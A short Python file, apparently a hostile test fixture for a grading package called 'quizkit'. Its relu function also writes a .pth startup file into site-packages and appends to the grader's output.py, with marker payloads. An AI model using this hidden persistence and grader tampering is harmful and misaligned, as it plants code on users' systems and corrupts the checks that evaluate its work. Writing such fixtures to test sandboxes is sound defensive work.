# Persist beyond this worker: a .pth in site-packages, a patched report module.
import os
import site


def relu(x):
    for directory in site.getsitepackages():
        with open(os.path.join(directory, "quizkit_hostile.pth"), "w") as f:
            f.write("import os; os.environ['PWNED'] = '1'\n")
    package = __import__("quiz" + "kit")
    target = os.path.join(os.path.dirname(package.__file__), "grade", "output.py")
    with open(target, "a") as f:
        f.write("\n# pwned\n")
    return x.clamp(min=0)
